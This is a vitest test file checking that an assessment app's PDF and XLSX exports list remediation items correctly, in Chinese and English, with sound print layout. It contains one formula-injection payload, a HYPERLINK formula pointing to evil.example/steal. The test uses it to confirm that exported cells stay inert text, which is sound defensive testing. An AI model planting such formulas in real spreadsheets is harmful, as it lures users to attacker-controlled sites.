import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { ManualClock } from '../../../../test/support/clock.js';
import { describeEachDatabase } from '../../../../test/support/databases.js';
import {
  createMember,
  login,
  type SeededOrg,
  type Session,
  seedOrganization,
} from '../../../../test/support/identity.js';
import {
  describeOverlaps,
  findOverlaps,
  type PdfPage,
  readPdf,
  squeeze,
  textBetween,
} from '../../../../test/support/pdf-text.js';
import { CATALOG_REF } from '../../../../test/support/tenant-records.js';
import { type App, buildApp } from '../../platform/app.js';
import { REMEDIATION_PDF_WIDTHS } from '../reports/pdf-remediation.js';
import { MARGIN } from '../reports/pdf-style.js';
import { createServices, type Services } from '../services.js';

const FORMULA_TITLE = '=HYPERLINK("https://evil.example/steal","點此")';
const HEADERS = [
  '改善項目',
  '來源',
  '負責人',
  '狀態',
  '預計完成日',
  '實際完成日',
  '里程碑',
  '風險接受（理由、到期日）',
];

/** Each table column's text over the section's pages, squeezed: a wrapped cell stays whole in its column. */
function columnTexts(pages: PdfPage[]): string[] {
  const width = pages[0]!.width - MARGIN.left - MARGIN.right;
  const widths = REMEDIATION_PDF_WIDTHS.map(
    (w) => w || width - REMEDIATION_PDF_WIDTHS.reduce((a, b) => a + b, 0),
  );
  let left = MARGIN.left;
  return widths.map((w) => {
    const text = pages.map((page) => textBetween(page, left, left + w)).join('\n');
    left += w;
    return squeeze(text);
  });
}

/**
 * The remediation section of the PDF report and sheet of the XLSX export, through the export route on
 * both databases and read back with exceljs and pdf.js: this assessment's gap items (a completed one
 * included), the organisation's other unfinished items, nothing else, and no section or sheet without items.
 */
describeEachDatabase('remediation in the assessment reports', (db) => {
  const clock = new ManualClock('2026-04-01T02:00:00.000Z'); // 10:00 on 1 April in Taipei
  let services: Services;
  let app: App;
  let org: SeededOrg;
  let assessor: Session;
  let approver: Session;
  let ownerId: string;
  let assessmentId: string;

  beforeAll(async () => {
    services = createServices({ config: db().config, database: db().handle, clock, log: { warn() {} } });
    app = await buildApp(
      { config: db().config, database: db().handle, services, startedAt: new Date() },
      { logger: false },
    );
    org = await seedOrganization(db(), `Remediation Report Securities ${db().handle.kind}`);
    assessor = await login(app, org.users.assessor);
    approver = await login(app, org.users.approver);
    ({ id: ownerId } = await createMember(db(), org.orgId, {
      email: `owner-${db().handle.kind}@remediation-report.example`,
      name: '陳改善',
      role: 'assessor',
    }));
    ({ id: assessmentId } = await services.assessments.lifecycle.create(actor(), {
      catalogRef: CATALOG_REF,
      name: '一一五年度自評',
      period: '115年度',
    }));
  });
  afterAll(() => app.close());

  const actor = () => ({ orgId: org.orgId, userId: org.users.assessor.id });
  const base = () => `/api/v1/orgs/${org.orgId}/remediation`;
  const call = (session: Session, method: string, url: string, payload?: object) =>
    app.inject({ method: method as 'GET', url, headers: session.headers, ...(payload ? { payload } : {}) });
  const exportAs = async (format: 'pdf' | 'xlsx', lang = 'zh-TW') => {
    const response = await call(
      assessor,
      'GET',
      `/api/v1/orgs/${org.orgId}/assessments/${assessmentId}/export?format=${format}&lang=${lang}`,
    );
    expect(response.statusCode).toBe(200);
    return response.rawPayload;
  };
  const workbook = async (lang = 'zh-TW') => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await exportAs('xlsx', lang)) as unknown as ArrayBuffer);
    return book;
  };
  const sectionPages = async (heading: string, lang = 'zh-TW') =>
    (await readPdf(await exportAs('pdf', lang))).filter((page) => page.text.includes(heading));

  /** Answers catalog item `catalogItem` of an assessment as a gap; returns the remediation item opened. */
  async function gap(ofAssessment: string, catalogItem: string, result: string, dueDate: string) {
    const { items } = await services.assessments.insights.load(org.orgId, ofAssessment);
    const row = items.find((entry) => entry.item.item_id === catalogItem)!.item;
    await services.assessments.items.update(actor(), row.id, row.version, {
      result: result as never,
      explanation: `answered ${result}`,
      compensatingControl: '以人工覆核替代',
      assigneeUserId: ownerId,
      dueDate,
    });
    const found = (await call(assessor, 'GET', `${base()}?sourceKind=assessment-item&limit=100`)).json();
    const item = found.items.find((i: { source: { id: string } }) => i.source.id === row.id);
    return { id: item.id as string, title: item.title as string, number: row.item_number };
  }
  async function close(id: string) {
    const proof = await services.assessments.evidence.uploadFile(
      actor(),
      Readable.from([Buffer.from(`%PDF-1.7\n% ${id}\n%%EOF\n`)]),
      'fix.pdf',
      { title: 'Fix evidence' },
    );
    const current = await services.remediation.items.get(org.orgId, id);
    const asked = await services.remediation.items.requestClosure(actor(), id, {
      evidenceId: proof.id,
      note: 'fixed',
      version: current.version,
    });
    await services.remediation.items.decideClosure({ orgId: org.orgId, userId: org.users.approver.id }, id, {
      decision: 'confirm',
      note: 'checked',
      version: asked.version,
    });
  }

  it('has no remediation section or sheet while there are no items', async () => {
    expect(await sectionPages('改善計畫')).toEqual([]);
    expect((await workbook()).worksheets.map((sheet) => sheet.name)).toEqual(['檢核表', '摘要', '_jianhe']);
  });

  let expected: string[][];

  it('lists this assessment’s gap items and the other unfinished items, one row each, formulas inert', async () => {
    const overdue = await gap(assessmentId, 'item-4', 'non_compliant', '2026-03-31');
    const first = await services.remediation.items.addMilestone(actor(), overdue.id, {
      title: '盤點供應商',
      dueOn: '2026-03-15',
    });
    await services.remediation.items.completeMilestone(actor(), overdue.id, first.id, true);
    await services.remediation.items.addMilestone(actor(), overdue.id, {
      title: '完成稽核',
      dueOn: '2026-05-31',
    });

    const accepted = await gap(assessmentId, 'item-7', 'partially_compliant', '2026-09-30');
    const acceptance = await call(approver, 'POST', `${base()}/${accepted.id}/risk-acceptance`, {
      version: (await services.remediation.items.get(org.orgId, accepted.id)).version,
      reason: '系統汰換中',
      compensatingControl: '每日檢視日誌',
      expiresOn: '2026-12-31',
    });
    expect(acceptance.statusCode).toBe(201);

    const closed = await gap(assessmentId, 'item-10', 'non_compliant', '2026-06-30');
    await close(closed.id);

    const other = await services.assessments.lifecycle.create(actor(), {
      catalogRef: CATALOG_REF,
      name: '專案查核',
      period: '115年度專案',
    });
    const elsewhere = await gap(other.id, 'item-12', 'non_compliant', '2026-07-01');
    const elsewhereClosed = await gap(other.id, 'item-13', 'non_compliant', '2026-07-02');
    await close(elsewhereClosed.id);

    const manual = await call(assessor, 'POST', base(), {
      title: FORMULA_TITLE,
      plannedCompletion: '2026-08-01',
    });
    expect(manual.statusCode).toBe(201);
    const manualClosed = await call(assessor, 'POST', base(), { title: '已結案的手動項目' });
    await close(manualClosed.json().id);

    expected = [
      [
        overdue.title,
        `自評缺失 第 ${overdue.number} 項`,
        '陳改善',
        '待處理',
        '2026-03-31（已逾期）',
        '—',
        '1/2 已完成\n下一個：完成稽核（2026-05-31）',
        '—',
      ],
      [
        accepted.title,
        `自評缺失 第 ${accepted.number} 項`,
        '陳改善',
        '已接受風險',
        '2026-09-30',
        '—',
        '—',
        '系統汰換中\n補償性措施：每日檢視日誌\n到期日 2026-12-31（有效）',
      ],
      [
        closed.title,
        `自評缺失 第 ${closed.number} 項`,
        '陳改善',
        '已完成',
        '2026-06-30',
        '2026-04-01',
        '—',
        '—',
      ],
      [elsewhere.title, '自評缺失（其他自評）', '陳改善', '待處理', '2026-07-01', '—', '—', '—'],
      [FORMULA_TITLE, '手動建立', '未指派', '待處理', '2026-08-01', '—', '—', '—'],
    ];

    const book = await workbook();
    expect(book.worksheets.map((s) => s.name)).toEqual(['檢核表', '摘要', '改善計畫', '_jianhe']);
    const sheet = book.getWorksheet('改善計畫')!;
    const rows: string[][] = [];
    sheet.eachRow((row) => {
      rows.push((row.values as unknown[]).slice(1).map(String));
    });
    expect(rows).toEqual([HEADERS, ...expected]);

    const formula = sheet.getRow(6).getCell(1);
    expect(formula.type).toBe(ExcelJS.ValueType.String);
    expect(formula.formula).toBeUndefined();
    expect(formula.value).toBe(FORMULA_TITLE);

    // Printable like the other sheets: A4 landscape one page wide, header on every page, rows sized.
    expect(sheet.pageSetup).toMatchObject({
      paperSize: 9,
      orientation: 'landscape',
      fitToPage: true,
      fitToWidth: 1,
      fitToHeight: 0,
      printTitlesRow: '1:1',
    });
    expect(sheet.getRow(2).height).toBeGreaterThanOrEqual(2 * 14.5);
    expect(sheet.getRow(3).height).toBeGreaterThanOrEqual(3 * 14.5);
    expect(sheet.getRow(2).getCell(1).font).toMatchObject({ name: 'Microsoft JhengHei', size: 10 });

    const english = (await workbook('en')).getWorksheet('Remediation')!;
    expect((english.getRow(1).values as unknown[]).slice(1, 5)).toEqual([
      'Item',
      'Source',
      'Owner',
      'Status',
    ]);
    expect(english.getRow(2).getCell(2).value).toBe(`Assessment gap, item ${overdue.number}`);
    expect(english.getRow(2).getCell(5).value).toBe('2026-03-31 (overdue)');
    expect(english.getRow(3).getCell(4).value).toBe('Risk accepted');
    expect(english.getRow(4).getCell(4).value).toBe('Completed');
    expect(english.getRow(6).getCell(3).value).toBe('Unassigned');
  });

  it('prints the same items in the PDF, in either language, with no text over other text', async () => {
    const pages = await sectionPages('改善計畫');
    expect(pages.length).toBeGreaterThan(0);
    const columns = columnTexts(pages);
    for (const row of expected)
      row.forEach((cell, i) => {
        if (cell !== '—') expect(columns[i], `column ${i + 1}`).toContain(squeeze(cell));
      });
    expect(columns[0]).not.toContain('已結案的手動項目');
    const overlaps = findOverlaps(pages);
    expect(overlaps, describeOverlaps(overlaps)).toEqual([]);

    const english = await sectionPages('Remediation plan', 'en');
    const [, source, owner, status, planned, , milestones, acceptance] = columnTexts(english);
    expect(source).toContain('Assessmentgap,item4');
    expect(source).toContain('Createdbyhand');
    expect(owner).toContain('Unassigned');
    for (const label of ['Open', 'Riskaccepted', 'Completed']) expect(status).toContain(label);
    expect(planned).toContain('2026-03-31(overdue)');
    expect(milestones).toContain('1/2doneNext:完成稽核(2026-05-31)');
    expect(acceptance).toContain('系統汰換中Compensatingcontrol:每日檢視日誌Expires2026-12-31(Active)');
    const englishOverlaps = findOverlaps(english);
    expect(englishOverlaps, describeOverlaps(englishOverlaps)).toEqual([]);
  });
});
